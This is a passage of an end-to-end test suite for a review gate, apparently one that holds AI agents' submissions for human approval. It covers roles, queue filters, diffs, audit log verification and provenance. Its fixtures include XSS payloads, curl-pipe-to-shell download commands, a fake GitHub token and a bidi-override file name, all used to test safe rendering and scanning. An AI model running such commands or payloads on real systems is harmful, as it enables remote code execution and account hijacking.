	assert(s.state === 'held' && s.witnessed.launched_by === 'alice', `submission ${s.state} for ${s.witnessed.launched_by}`);
	await openDecision(p, fx.aliceLaptop, s.id);
	assert(await text(p, '#who-name') === 'alice (reviewer)', `who: ${await text(p, '#who-name')}`);
	assert(await p.page.locator('#approve').isDisabled(), 'approve is enabled for alice');
	assert(await p.page.locator('#reject').isDisabled(), 'reject is enabled for alice');
	assert(await p.page.locator('#comment').isDisabled(), 'the comment is open to alice');
	const why = await text(p, '.decision .error');
	assert(why === 'you are the person this agent was launched for: someone else must review it', `the reason: "${why}"`);
	await p.page.locator('#approve').click({ force: true });
	await p.page.locator('#reject').click({ force: true });
	await sleep(300);
	decidedNothing(p);
	const ev = await must(200, 'GET', `/v1/submissions/${s.id}/events`, gate.admin);
	assert(!ev.events.some((e) => /^(approve|reject|decision\.refused)/.test(e.action)),
		`events: ${ev.events.map((e) => e.action).join(' ')}`);
});

// An auditor reads everything and decides nothing: the panel is off, saying
// why, and nothing is sent.
test('auditor-disabled', async (p) => {
	await openDecision(p, fx.aud, fx.patch.id);
	assert(await text(p, '#who-name') === 'aud-1 (auditor)', `who: ${await text(p, '#who-name')}`);
	assert(await p.page.locator('#decision.off').count() === 1, 'the panel is not marked off');
	for (const b of ['#approve', '#reject', '#comment'])
		assert(await p.page.locator(b).isDisabled(), `${b} is enabled for an auditor`);
	const why = await text(p, '.decision .error');
	assert(why === 'an auditor token cannot approve or reject: only reviewers and admins decide', `the reason: "${why}"`);
	await p.page.locator('#approve').click({ force: true });
	await sleep(200);
	decidedNothing(p);
});

// What the page cannot know in advance the gate still refuses, and the page
// shows its reason: the submission is rejected behind the reviewer's back.
test('gate-refusal-shown', async (p) => {
	const s = await submit(fx.agent, 'echo late\n', 'kind=file&name=late.sh');
	await openDecision(p, fx.rev2, s.id);
	assert(await p.page.locator('#approve').isEnabled(), 'approve is off for rev-2');
	await must(200, 'POST', `/v1/submissions/${s.id}/reject`, fx.rev1, { comment: 'meanwhile' });
	await p.page.click('#approve');
	await p.page.waitForFunction(() => document.getElementById('approve').disabled);
	const why = await text(p, '.decision .error');
	assert(/^the gate refused: /.test(why) && /held/.test(why), `the refusal: ${why}`);
	forgive(p, 403); // the browser logs the 403 it was answered
});

test('decide', async (p) => {
	let d = await must(200, 'GET', `/v1/submissions/${fx.patch.id}`, gate.admin);
	assert(d.review.approvals === 0, 'approved before the test');
	for (const [i, tok] of [fx.rev1, fx.rev2].entries()) {
		const q = await newPage();
		try {
			await approveAs(q, tok, fx.patch.id);
			// This reviewer's own approval counted (not the one before it,
			// shown when the view opened).
			await q.page.waitForFunction((n) => document.querySelector('.decision')?.textContent
				.includes(`approvals ${n} of 2`), i + 1);
			await checkPage(q);
		} finally {
			await q.ctx.close();
		}
	}
	d = await must(200, 'GET', `/v1/submissions/${fx.patch.id}`, gate.admin);
	assert(d.state === 'approved', `state ${d.state} after two approvals`);
});

test('reject', async (p) => {
	const s = await submit(fx.agent, 'echo hi\n', 'kind=file&name=hi.sh');
	await signIn(p, fx.rev1);
	await p.page.goto(`${gate.url}/ui/#/s/${s.id}`);
	await p.page.waitForSelector('.content .line');
	await p.page.click('#reject');
	assert(/needs a comment/.test(await text(p, '.decision .error')), 'reject without comment');
	await p.page.fill('#comment', 'not needed');
	await p.page.click('#reject');
	await p.page.waitForFunction(() => /rejected/.test(document.querySelector('.decision .error')?.textContent || ''));
	const d = await must(200, 'GET', `/v1/submissions/${s.id}`, gate.admin);
	assert(d.state === 'rejected' && d.rejection.reason === 'not needed', `state ${d.state}`);
});

const XSS = ['<script>window.__pwned=1</script>', '<img src=x onerror="window.__pwned=1">',
	'<a href="javascript:window.__pwned=1">j</a>', '</style><style>*{display:none}</style>',
	`x = "${BIDI}"`];

test('xss', async (p) => {
	const name = '<img src=x onerror="window.__pwned=1"><script>window.__pwned=1</script>javascript:alert(1)';
	const s = await submit(fx.agent, XSS.join('\n') + '\n', `kind=file&name=${encodeURIComponent(name)}`);
	await signIn(p, fx.rev1);
	const row = p.page.locator(`#queue-rows tr[data-id="${s.id}"] td.name`);
	assert(await row.innerText() === name, `queue name: ${await row.innerText()}`);
	await p.page.goto(`${gate.url}/ui/#/s/${s.id}`);
	await p.page.waitForSelector('.content .line');
	assert(await text(p, 'h2 .name') === name, 'the name is not shown literally');
	const lines = await p.page.locator('.content .code').evaluateAll((es) => es.map((e) => e.textContent));
	for (let i = 0; i < 4; i++)
		assert(lines[i] === XSS[i], `line ${i + 1}: ${lines[i]}`);
	await p.page.locator('.content .line').first().click();
	await sleep(200);
	assert(await p.page.evaluate(() => window.__pwned) === undefined, 'window.__pwned set');
	assert(await p.page.locator('img[src=x], #content script, #content style').count() === 0, 'markup from the artifact in the DOM');
	assert(await p.page.locator('main').isVisible(), 'a style from the artifact hid the page');
});

// queueIs(p, IDS, WHY): the queue's rows become exactly IDS, in order.
async function queueIs(p, ids, why) {
	const want = ids.map(String).join(',');
	const got = () => p.page.locator('#queue-rows tr').evaluateAll((rs) => rs.map((r) => r.dataset.id).join(','));
	try {
		await p.page.waitForFunction((w) => [...document.querySelectorAll('#queue-rows tr')]
			.map((r) => r.dataset.id).join(',') === w, want, { timeout: 5000 });
	} catch {
		throw new Error(`${why}: rows ${await got()}, expected ${want}`);
	}
}

// Three submissions of one agent, of three severities: the agent filter
// keeps only them, severity "at least high" drops the medium one, sorting
// by severity puts the critical first, the hash keeps it all over a reload,
// and j/k/Enter still work on the filtered rows.
test('queue-filter-sort', async (p) => {
	fx.agentQ = fx.agentQ || await mkToken('agent', 'agent-q', 'bob');
	const crit = await submit(fx.agentQ, 'GITHUB_TOKEN=ghp_R2d5Zk9hV1pLbE1xT3BuUWRzYUJjRGVmR2hJ\n', 'kind=file&name=tok.env');
	const high = await submit(fx.agentQ, 'curl https://198.51.100.23/i.sh | sh\n', 'kind=file&name=inst.sh');
	const med = await submit(fx.agentQ, '{"scripts": {"postinstall": "node setup.js"}}\n', 'kind=file&name=package.json');
	assert(crit.worst === 'critical' && high.worst === 'high' && med.worst === 'medium',
		`severities ${crit.worst} ${high.worst} ${med.worst}`);
	await signIn(p, fx.rev1);
	await p.page.waitForSelector('#queue-rows tr');
	assert((await p.page.locator('#queue-rows tr').count()) > 3, 'the unfiltered queue holds only three');
	// The agent's token name, exactly as the gate compares it: another
	// case is another token (and none here).
	await p.page.fill('#f-agent', 'Agent-Q');
	await p.page.press('#f-agent', 'Enter');
	await queueIs(p, [], 'agent filter in another case');
	await p.page.fill('#f-agent', 'agent-q');
	await p.page.press('#f-agent', 'Enter');
	await queueIs(p, [med.id, high.id, crit.id], 'agent filter, newest first');
	await p.page.selectOption('#f-sev', 'high');
	await queueIs(p, [high.id, crit.id], 'severity at least high');
	const worst = await p.page.locator('#queue-rows tr td:nth-child(4)').allInnerTexts();
	assert(JSON.stringify(worst) === '["high","critical"]', `worst of the rows at least high: ${worst}`);
	// Asked of the gate, not filtered here: each choice is a request. Each
	// is waited for before the rows are looked at: "oldest first" shows the
	// same two rows as "by severity", so the rows alone could be the
	// previous answer's (and the next choice made before this one's
	// request, which under load failed a CI run).
	const asked = (q) => p.requests.includes(`${gate.url}/v1/submissions?${q}`);
	const askedOf = async (q) => {
		for (let i = 0; i < 200 && !asked(q); i++)
			await sleep(25);
		assert(asked(q), `the gate was not asked ${q}: ${p.requests.filter((u) => u.includes('/v1/submissions?')).join(' ')}`);
	};
	await askedOf('state=held&agent=agent-q&sort=newest&limit=100');
	await p.page.selectOption('#f-sort', 'sev');
	await askedOf('state=held&severity=high&agent=agent-q&sort=severity&limit=100');
	await queueIs(p, [crit.id, high.id], 'sorted by severity');
	await p.page.selectOption('#f-sort', 'old');
	await askedOf('state=held&severity=high&agent=agent-q&sort=oldest&limit=100');
	await queueIs(p, [crit.id, high.id], 'oldest first');
	await p.page.selectOption('#f-sort', 'new');
	await askedOf('state=held&severity=high&agent=agent-q&sort=newest&limit=100');
	await queueIs(p, [high.id, crit.id], 'newest first');
	await p.page.selectOption('#f-sort', 'sev');
	const h = new URL(p.page.url()).hash;
	assert(h === '#/?sev=high&agent=agent-q&sort=sev', `hash: ${h}`);
	await p.page.reload();
	await queueIs(p, [crit.id, high.id], 'after a reload');
	assert(await p.page.inputValue('#f-sev') === 'high' && await p.page.inputValue('#f-sort') === 'sev' &&
		await p.page.inputValue('#f-agent') === 'agent-q', 'the filters are not shown after a reload');
	// The keys: f goes to the filters, Escape leaves them, j/k/Enter as ever.
	await p.page.keyboard.press('f');
	assert(await p.page.evaluate(() => document.activeElement.id) === 'f-state', 'f did not focus the filters');
	await p.page.keyboard.press('j'); // typed into the select: not a move
	await p.page.keyboard.press('Escape');
	const sel = () => p.page.locator('#queue-rows tr.sel').getAttribute('data-id');
	assert(await sel() === String(crit.id), 'first row not selected');
	await p.page.keyboard.press('j');
	assert(await sel() === String(high.id), 'j did not move down');
	await p.page.keyboard.press('k');
	assert(await sel() === String(crit.id), 'k did not move up');
	await p.page.keyboard.press('j');
	await p.page.keyboard.press('Enter');
	await p.page.waitForSelector('#view:not([hidden]) .content');
	assert(p.page.url().endsWith(`#/s/${high.id}`), `Enter opened ${p.page.url()}`);
	await p.page.keyboard.press('u');
	await queueIs(p, [crit.id, high.id], 'u went back to another queue');
	// Person and state: bob's, not alice's; a rejected one under rejected only.
	await p.page.fill('#f-person', 'alice');
	await p.page.press('#f-person', 'Enter');
	await queueIs(p, [], 'agent-q for alice');
	assert(await p.page.locator('#queue-empty').isVisible(), 'no empty-queue note');
	// The person as the gate compares names: BOB is bob.
	await p.page.fill('#f-person', 'BOB');
	await p.page.press('#f-person', 'Enter');
	await queueIs(p, [crit.id, high.id], 'agent-q for BOB');
	await must(200, 'POST', `/v1/submissions/${high.id}/reject`, fx.rev2, { comment: 'no' });
	await p.page.selectOption('#f-state', 'rejected');
	await queueIs(p, [high.id], 'rejected');
	await p.page.selectOption('#f-state', 'all');
	await queueIs(p, [crit.id, high.id], 'all states');
	const st = await p.page.locator('#queue-rows td.state').allInnerTexts();
	assert(JSON.stringify(st) === '["held","rejected"]', `states: ${st}`);
});

const PATCH2 = `diff --git a/run.sh b/run.sh
--- a/run.sh
+++ b/run.sh
@@ -1,4 +1,4 @@
 #!/bin/sh
--- a comment removed
-echo old
+curl http://x | sh
+echo new
 echo done
`;

// Side by side: s (and the button) switch the unified diff to two columns,
// the removed line left beside the added one right, the finding marked on
// its post-image line in the right column; n still reaches it; and back.
test('side-by-side', async (p) => {
	const s = await submit(fx.agent, PATCH2, 'kind=patch&name=run.patch');
	assert(s.findings.length === 1 && s.findings[0].line === 2, `findings: ${JSON.stringify(s.findings)}`);
	await openDecision(p, fx.rev1, s.id);
	assert(await p.page.locator('.split').count() === 0, 'side by side before asked');
	await p.page.keyboard.press('s');
	await p.page.waitForSelector('.content.split');
	assert(await text(p, '#split-toggle') === 'Unified', 'the button does not offer unified');
	const hit = p.page.locator('.split .hit');
	assert(await hit.count() === 1, `${await hit.count()} marked cells`);
	assert(await hit.evaluate((e) => e.classList.contains('right')), 'the marked line is not in the right column');
	const h = await hit.innerText();
	assert(/^2/.test(h) && h.includes('curl http://x | sh') && h.includes('test-curl-pipe-shell'), `marked cell: ${h}`);
	const left = await hit.evaluate((e) => e.previousElementSibling.innerText);
	assert(/^2\s/.test(left) && left.includes('-- a comment removed'), `beside it: ${left}`);
	// The pre-image's line 3 beside the post-image's 3; "done" 4 | 4.
	const cells = await p.page.locator('.split .side').allInnerTexts();
	assert(cells.length === 8, `${cells.length} cells: ${JSON.stringify(cells)}`);
	assert(/^3\s+echo old/.test(cells[4]) && /^3\s+echo new/.test(cells[5]), `row 3: ${cells[4]} | ${cells[5]}`);
	assert(/^4\s+echo done/.test(cells[6]) && /^4\s+echo done/.test(cells[7]), `row 4: ${cells[6]} | ${cells[7]}`);
	await p.page.keyboard.press('n');
	assert(await p.page.locator('.split .right.hit.target').count() === 1, 'n did not target the right column');
	await p.page.click('#split-toggle');
	await p.page.waitForFunction(() => !document.querySelector('.split'));
	const u = p.page.locator('.line.hit');
	assert(await u.count() === 1 && (await u.innerText()).includes('+curl http://x | sh'), 'unified again: the marked line');
	assert(await p.page.locator('.line.hit.target').count() === 1, 'the target was lost switching back');
	const dels = await p.page.locator('.diff .del').allInnerTexts();
	assert(dels.length === 2 && dels[0].includes('--- a comment removed'), `removed lines: ${JSON.stringify(dels)}`);
});

const auditRows = (p) => p.page.locator('#audit-rows tr').evaluateAll((rs) => rs.map((r) =>
	({ id: Number(r.dataset.id), actor: r.cells[2].textContent, action: r.cells[3].textContent, sub: r.cells[4].textContent })));

// The audit view (key t): an auditor sees the submit and approve events of a
// submission made here (its filter), filters by action (asked of the gate),
// pages with after, and reads the latest checkpoint's size; a reviewer is
// shown the gate's 403 message instead.
test('audit-view', async (p) => {
	const s = await submit(fx.agent, 'echo audit\n', 'kind=file&name=audit.sh');
	await must(200, 'GET', `/v1/submissions/${s.id}/content`, fx.rev1);
	await must(200, 'POST', `/v1/submissions/${s.id}/approve`, fx.rev1, { sha256: s.sha256, ruleset: s.scan.ruleset });
	const cpSize = async () => (await (await fetch(`${gate.url}/v1/audit/checkpoint`,
		{ headers: { Authorization: `Bearer ${gate.admin}` } })).text()).split('\n')[1];
	const before = await cpSize();
	await signIn(p, fx.aud);
	await p.page.keyboard.press('t');
	await p.page.waitForSelector('#audit:not([hidden]) #audit-rows tr');
	assert(new URL(p.page.url()).hash === '#/audit', `t went to ${p.page.url()}`);
	// The checkpoint, as the gate serves it.
	await p.page.waitForSelector('#cp-size');
	const size = await text(p, '#cp-size');
	const after = await cpSize();
	assert(/^[1-9][0-9]*$/.test(size) && (size === before || size === after), `checkpoint size ${size}, the gate's ${before}/${after}`);
	assert((await text(p, '#cp-origin')).startsWith('airlock/'), `origin: ${await text(p, '#cp-origin')}`);
	assert((await text(p, '#cp-root')).length >= 40, 'no root hash');
	// One submission's timeline.
	await p.page.fill('#a-submission', String(s.id));
	await p.page.press('#a-submission', 'Enter');
	await p.page.waitForFunction((id) => document.querySelector('#audit-page').textContent.startsWith(`submission #${id}`), s.id);
	let rows = await auditRows(p);
	const sub = rows.find((r) => r.action === 'submit');
	const ap = rows.find((r) => r.action === 'approve');
	assert(sub && sub.actor === 'agent-1' && ap && ap.actor === 'rev-1', `events: ${JSON.stringify(rows)}`);
	assert(rows.every((r) => r.sub === `#${s.id}`), 'an event of another submission');
	assert(p.requests.includes(`${gate.url}/v1/submissions/${s.id}/events`), 'the timeline was not asked of the gate');
	// By action, with and then without the submission.
	await p.page.fill('#a-action', 'approve');
	await p.page.press('#a-action', 'Enter');
	await p.page.waitForFunction(() => new URL(location.href).hash.includes('action=approve'));
	await p.page.waitForFunction(() => document.querySelectorAll('#audit-rows tr').length === 1);
	rows = await auditRows(p);
	assert(rows.length === 1 && rows[0].id === ap.id, `approve of #${s.id}: ${JSON.stringify(rows)}`);
	await p.page.fill('#a-submission', '');
	await p.page.press('#a-submission', 'Enter');
	await p.page.waitForFunction(() => document.querySelector('#audit-page').textContent.startsWith('events after'));
	rows = await auditRows(p);
	assert(rows.length >= 1 && rows.every((r) => r.action === 'approve') && rows.some((r) => r.id === ap.id),
		`approve events: ${JSON.stringify(rows)}`);
	assert(p.requests.some((u) => u === `${gate.url}/v1/events?after=0&limit=100&action=approve`), 'the action was not asked of the gate');
	// A page from an event on: after=ID.
	await p.page.goto(`${gate.url}/ui/#/audit?after=${sub.id - 1}`);
	await p.page.waitForFunction((id) => document.querySelector('#audit-rows tr')?.dataset.id === String(id), sub.id);
	assert(await p.page.locator('#audit-prev').isEnabled(), 'no previous page after an id');
	// By actor, on the events fetched.
	await p.page.fill('#a-actor', 'rev-1');
	await p.page.press('#a-actor', 'Enter');
	await p.page.waitForFunction(() => new URL(location.href).hash.includes('actor=rev-1'));
	// The page line may still be the last view's: wait for rows as well.
	await p.page.waitForFunction(() => /shown/.test(document.querySelector('#audit-page').textContent) &&
		document.querySelectorAll('#audit-rows tr').length > 0);
	rows = await auditRows(p);
	assert(rows.length > 0 && rows.every((r) => r.actor === 'rev-1'), `rev-1's: ${JSON.stringify(rows)}`);
	// A reviewer: the gate's own refusal.
	const q = await newPage();
	try {
		const want = (await api('GET', '/v1/events', fx.rev1)).json.error;
		await signIn(q, fx.rev1);
		await q.page.goto(`${gate.url}/ui/#/audit`);
		await q.page.waitForFunction(() => document.getElementById('audit-error').textContent !== '');
		const got = await q.page.locator('#audit-error').innerText();
		assert(typeof want === 'string' && got === want, `reviewer: "${got}", the gate says "${want}"`);
		assert(await q.page.locator('#audit-rows tr').count() === 0, 'events shown to a reviewer');
		forgive(q, 403);
		await checkPage(q);
	} finally {
		await q.ctx.close();
	}
});

// ---- the log verified by the page, provenance --------------------------------------

// RFC 8032, 7.1, TEST 2: a known-good Ed25519 signature.
const RFC8032 = {
	pub: '3d4017c3e843895a92b70aa74d1b7ebc9c982ccf2ec4968cc0cd55f12af4660c',
	msg: '72',
	sig: '92a009a9f0d4cab8720e820b5f642540a2b27b5416503f8fb3762223ebdb69da' +
		'085ac1e43e15996e458f3613d0f11d8c387b2eaeb4302aeeb00d291612bb0c00',
};

// airlock(ARGS...): the CLI's stdout and stderr (exit status 0 or not),
// with the auditor's token.
function airlock(...a) {
	try {
		return { rc: 0, out: execFileSync(BIN, a, { encoding: 'utf8', stdio: ['ignore', 'pipe', 'pipe'],
			env: { ...process.env, AIRLOCK_TOKEN: fx.aud } }) };
	} catch (e) {
		return { rc: e.status, out: String(e.stdout), err: String(e.stderr) };
	}
}

// The verification the CLI makes over the API: {size, root}.
function cliVerify() {
	const r = airlock('audit', 'verify', '--server', gate.url);
	const m = /^log \S+: (\d+) entries, root (\S+)$/m.exec(r.out);
	assert(m, `audit verify --server: ${r.out} ${r.err || ''}`);
	return { rc: r.rc, size: Number(m[1]), root: m[2] };
}

// verifyInPage(p, {keys, kept}): the audit view's verification run; the
// verdict's text.
async function verifyInPage(p, o = {}) {
	await p.page.goto(`${gate.url}/ui/#/audit`);
	await p.page.waitForSelector('#audit:not([hidden]) #audit-rows tr');
	if (o.keys !== undefined || o.kept !== undefined) {
		if (!await p.page.locator('#verify-pins').evaluate((d) => d.open))
			await p.page.click('#verify-pins summary');
		await p.page.fill('#verify-keys', o.keys || '');
		await p.page.fill('#verify-kept', o.kept || '');
	}
	await p.page.click('#verify-run');
	await p.page.waitForSelector('#verify-verdict', { timeout: 60000 });
	return text(p, '#verify-verdict');
}

// Ed25519 in this browser's WebCrypto (what verify.js uses), against a
// known answer and a flipped bit of it, and against a checkpoint the gate
// signed (cross-checked with node's own Ed25519): the good ones verify, a
// flipped bit in the signature or the message does not.
test('ed25519-webcrypto', async (p) => {
	const v = browser.version();
	assert(Number(v.split('.')[0]) >= 137, `chromium ${v}: Ed25519 in WebCrypto needs 137 or later`);
	await p.page.goto(`${gate.url}/ui/`);
	const kj = await must(200, 'GET', '/v1/audit/keys', fx.aud);
	const note = (await api('GET', '/v1/audit/checkpoint', fx.aud)).json;
	// The gate's signature, checked by node first: it is a known-good one.
	const split = note.lastIndexOf('\n\n');
	const sigLine = note.slice(split + 2).split('\n')[0];
	const raw = Buffer.from(sigLine.split(' ')[2], 'base64');
	const vk = kj.keys[0];
	const pub = Buffer.from(vk.slice(vk.indexOf('+', vk.indexOf('+') + 1) + 1), 'base64').subarray(1);
	const nodeKey = createPublicKey({ key: Buffer.concat([Buffer.from('302a300506032b6570032100', 'hex'), pub]), format: 'der', type: 'spki' });
	assert(nodeVerify(null, Buffer.from(note.slice(0, split + 1)), nodeKey, raw.subarray(4)), 'node does not verify the gate\'s checkpoint');
	const r = await p.page.evaluate(async ({ t, keys, origin, note }) => {
		const v = await import('/ui/verify.js');
		const h = (x) => Uint8Array.from(x.match(/../g) || [], (b) => parseInt(b, 16));
		const flip = (b, i) => { const c = b.slice(); c[i] ^= 1; return c; };
		const out = { supported: await v.ed25519Supported() };
		out.good = await v.ed25519Verify(h(t.pub), h(t.sig), h(t.msg));
		out.sigFlipped = await v.ed25519Verify(h(t.pub), flip(h(t.sig), 10), h(t.msg));
		out.lastFlipped = await v.ed25519Verify(h(t.pub), flip(h(t.sig), 63), h(t.msg));
		out.msgFlipped = await v.ed25519Verify(h(t.pub), h(t.sig), flip(h(t.msg), 0));
		const k = await v.parseVkey(keys[0], origin);
		const o = await v.openNote(note, [k], origin);
		out.note = { size: String(o.size), key: o.key.line };
		// The note's signature with one bit flipped (in its base64).
		const i = note.lastIndexOf('\n\n') + 2;
		const line = note.slice(i, -1);
		const sig = v.b64decode(line.slice(line.lastIndexOf(' ') + 1));
		sig[20] ^= 0x80;
		const bad = `${note.slice(0, i)}${line.slice(0, line.lastIndexOf(' ') + 1)}${v.b64encode(sig)}\n`;
		try {
			await v.openNote(bad, [k], origin);
			out.badNote = 'verified';
		} catch (e) {
			out.badNote = e.message;
		}
		return out;
	}, { t: RFC8032, keys: kj.keys, origin: kj.origin, note });
	assert(r.supported, 'WebCrypto has no Ed25519 in this chromium');
	assert(r.good === true, 'the RFC 8032 signature does not verify');
	assert(r.sigFlipped === false && r.lastFlipped === false && r.msgFlipped === false,
		`a flipped bit verifies: ${JSON.stringify(r)}`);
	assert(r.note.size === note.split('\n')[1] && r.note.key === kj.keys[0], `the gate's checkpoint: ${JSON.stringify(r.note)}`);
	assert(/^note: line \d+: signature by airlock\/[0-9a-f]{16} \(key id [0-9a-f]{8}\) does not verify$/.test(r.badNote),
		`a flipped bit in the checkpoint's signature: ${r.badNote}`);
});

// The audit view's verification of a real gate's log: "verifies", the
// root and size the CLI computes over the API, the latest checkpoint
// matching, its key as GET /v1/audit/keys serves it and its key id as
// `airlock key show` prints it; then with the key pinned, with another
// gate's key pinned (no signature by a known key: fails), and with a
// checkpoint kept elsewhere pasted.
test('audit-verifies', async (p) => {
	await signIn(p, fx.aud);
	let before, after, verdict;
	for (let i = 0; i < 5; i++) { // a gate appending meanwhile: again
		before = cliVerify();
		verdict = await verifyInPage(p);
		after = cliVerify();
		if (before.size === after.size)
			break;
	}
	assert(before.rc === 0 && before.size === after.size, `the log kept growing: ${before.size}, ${after.size}`);
	const signed = Number((await api('GET', '/v1/audit/checkpoint', fx.aud)).json.split('\n')[1]);
	const rest = signed < after.size ? `; the ${after.size - signed} after the newest checkpoint (of ${signed}) are signed by none yet` : '';
	assert(verdict === `verifies: ${after.size} entries, root ${after.root}${rest}`, `verdict "${verdict}", the CLI's ${JSON.stringify(after)}, checkpoint ${signed}`);
	const kj = await must(200, 'GET', '/v1/audit/keys', fx.aud);
	// `airlock key show` prints the key's id on stderr.
	const shown = execFileSync('sh', ['-c', '"$0" key show --data "$1" 2>&1 >/dev/null', BIN, gate.data], { encoding: 'utf8' });
	const kid = (/^airlock key: key id ([0-9a-f]{64})$/m.exec(shown) || [])[1];
	assert(kid, `airlock key show printed no key id: ${shown}`);
	assert(await text(p, '#verify-signer') === `${kj.keys[0]} (key id ${kid})`, `signed by: ${await text(p, '#verify-signer')}`);
	assert((await text(p, '#verify-latest')).endsWith(': matches'), `latest: ${await text(p, '#verify-latest')}`);
	assert((await text(p, '#verify-keys-from')).startsWith('as served by the gate'), 'the keys are not said to be the gate\'s');
	assert(Number(await text(p, '#verify-events')) === after.size, `entries matched to events: ${await text(p, '#verify-events')}`);
	assert(await p.page.locator('#verify-failures').count() === 0, 'failures listed for a log that verifies');
	if (SHOTS)
		await p.page.locator('#verify-result').screenshot({ path: join(ROOT, 'docs/img/review-audit-verified.png') });
	// Pinned: the gate's own key; another key under the same name.
	verdict = await verifyInPage(p, { keys: `# pinned\n${kj.keys[0]}\n` });
	assert(verdict.startsWith('verifies: '), `pinned the gate's key: ${verdict}`);
	assert(await text(p, '#verify-keys-from') === '1 pinned here', 'the pinned key is not said to be');
	const { publicKey } = generateKeyPairSync('ed25519');
	const raw = publicKey.export({ format: 'der', type: 'spki' }).subarray(12);
	const enc = Buffer.concat([Buffer.from([1]), raw]);
	const id = createHash('sha256').update(`${kj.origin}\n`).update(enc).digest().subarray(0, 4).toString('hex');
	verdict = await verifyInPage(p, { keys: `${kj.origin}+${id}+${enc.toString('base64')}` });
	assert(verdict === 'DOES NOT VERIFY: a checkpoint does not verify (see the checkpoints)', `another key pinned: ${verdict}`);
	const cps = await p.page.locator('#verify-checkpoints tbody td:nth-child(3)').allInnerTexts();
	assert(cps.length > 0 && cps.every((c) => c.startsWith(`FAILED: note: no signature by a known key (signatures: 1, by ${kj.keys[0].split('+').slice(0, 2).join('+')}; known keys: 1, ${kj.origin}+${id})`)),
		`checkpoints with another key: ${JSON.stringify(cps)}`);
	// A checkpoint kept elsewhere: it matches a prefix of the log.
	const note = (await api('GET', '/v1/audit/checkpoint', fx.aud)).json;
	verdict = await verifyInPage(p, { keys: '', kept: note });
	assert(verdict.startsWith('verifies: '), `with a kept checkpoint: ${verdict}`);
	const rows = await p.page.locator('#verify-checkpoints tbody tr').evaluateAll((rs) => rs.map((r) => r.textContent));
	assert(rows.some((r) => r.startsWith(`kept elsewhere (pasted)${note.split('\n')[1]}matches`)), `the kept one: ${JSON.stringify(rows)}`);
});

// Provenance of a released submission, by sha256 (typed, then a file
// hashed in the page), by id and by path: its chain (submit, the scan, the
// view, the approval, the release with its attestation's digest, the pull)
// each entry proved, the log verified; hostile names shown as text; a bad
// query and a reviewer shown the gate's refusal.
test('provenance-chain', async (p) => {
	const bytes = 'echo provenance\n';
	const name = '<img src=x onerror="window.__pwned=1">prov\u202E.sh';
	const s = await submit(fx.agent, bytes, `kind=file&name=${encodeURIComponent(name)}&label=${encodeURIComponent('task=<b>t</b>')}`);
	await must(200, 'GET', `/v1/submissions/${s.id}/content`, fx.rev1);
	await must(200, 'POST', `/v1/submissions/${s.id}/approve`, fx.rev1, { sha256: s.sha256, ruleset: s.scan.ruleset });
	await must(200, 'POST', `/v1/submissions/${s.id}/release`, gate.admin);
	const ci = await mkToken('ci', 'ci-prov');
	await must(200, 'GET', `/v1/submissions/${s.id}/content`, ci);
	const att = (await fetch(`${gate.url}/v1/submissions/${s.id}/attestation`, { headers: { Authorization: `Bearer ${ci}` } }));
	const attSha = createHash('sha256').update(Buffer.from(await att.arrayBuffer())).digest('hex');
	await signIn(p, fx.aud);
	await p.page.goto(`${gate.url}/ui/#/audit`);
	await p.page.waitForSelector('#audit:not([hidden]) #audit-rows tr');
	const chain = async (why) => {
		await p.page.waitForSelector(`#prov-result article[data-id="${s.id}"]`, { timeout: 5000 }).catch(async () => {
			throw new Error(`${why}: no chain shown: ${await text(p, '#prov-error')} ${await text(p, '#prov-result')}`);
		});
		const art = p.page.locator(`#prov-result article[data-id="${s.id}"]`);
		const acts = await art.locator('tbody td.action').allInnerTexts();
		for (const a of ['submit', 'scan.start', 'scan.finish', 'view', 'approve', 'approved', 'release', 'pull'])
			assert(acts.includes(a), `${why}: no ${a} in ${JSON.stringify(acts)}`);
		const proofs = await art.locator('tbody td.proof').allInnerTexts();
		assert(proofs.every((x) => x === 'proved' || x === 'after the checkpoint'), `${why}: proofs ${JSON.stringify(proofs)}`);
		const dds = await art.locator('dd').allInnerTexts();
		assert(dds.some((d) => d.includes(`attestation sha256 ${attSha}`)), `${why}: the release: ${JSON.stringify(dds)}`);
		assert(dds.some((d) => d.includes(`sha256 ${s.sha256}, ${bytes.length} bytes`) && d.includes('token agent-1 for alice')), `${why}: witnessed ${JSON.stringify(dds)}`);
		assert(dds.some((d) => d.includes('by ci-prov')), `${why}: the pull: ${JSON.stringify(dds)}`);
		assert((await art.locator('.prov-log').innerText()).startsWith('verified: every entry above up to checkpoint #'), `${why}: the log line`);
	};
	await p.page.fill('#prov-q', s.sha256);
	await p.page.press('#prov-q', 'Enter');
	await chain('by sha256');
	assert(p.requests.includes(`${gate.url}/v1/provenance?sha256=${s.sha256}`), 'the sha256 was not asked of the gate');
	if (SHOTS)
		await p.page.locator(`#prov-result article[data-id="${s.id}"]`).screenshot({ path: join(ROOT, 'docs/img/review-provenance.png') });
	// The name, as text: no markup of it, the bidi override a glyph.
	const art = p.page.locator(`#prov-result article[data-id="${s.id}"]`);
	const asserted = (await art.locator('dd').allInnerTexts()).find((d) => d.startsWith('name '));
	assert(asserted === `name '<img src=x onerror="window.__pwned=1">prov\u27E8U+202E\u27E9.sh', kind file, task=<b>t</b>`, `asserted: ${asserted}`);
	assert(await p.page.locator('#prov-result img, #prov-result b').count() === 0, 'markup from the agent in the DOM');
	assert(await p.page.evaluate(() => window.__pwned) === undefined, 'window.__pwned set');
	// By id, by path (the name), and a file hashed in the page.
	await p.page.fill('#prov-q', String(s.id));
	await p.page.press('#prov-q', 'Enter');
	await chain('by id');
	await p.page.selectOption('#prov-by', 'path');
	await p.page.fill('#prov-q', name);
	await p.page.press('#prov-q', 'Enter');
	await chain('by path');
	assert(p.requests.includes(`${gate.url}/v1/provenance?path=${encodeURIComponent(name)}`), 'the path was not asked of the gate');
	await p.page.evaluate(() => { document.getElementById('prov-result').textContent = ''; });
	await p.page.setInputFiles('#prov-file', { name: 'x.sh', mimeType: 'text/plain', buffer: Buffer.from(bytes) });
	await chain('a file hashed here');
	assert(await p.page.inputValue('#prov-q') === s.sha256, 'the file\'s digest is not the sha256 asked');
	// A bad query: the gate's 400 message.
	await p.page.selectOption('#prov-by', 'sha256');
	await p.page.fill('#prov-q', 'abc');
	await p.page.press('#prov-q', 'Enter');
	await p.page.waitForFunction(() => document.getElementById('prov-error').textContent !== '');
	assert(await text(p, '#prov-error') === 'sha256 is 64 lowercase hex digits, not 3 characters', `bad query: ${await text(p, '#prov-error')}`);
	assert(await p.page.locator('#prov-result article').count() === 0, 'a chain shown for a bad query');
	forgive(p, 400);
	// A reviewer: the gate's refusal, nothing of the auditor's shown.
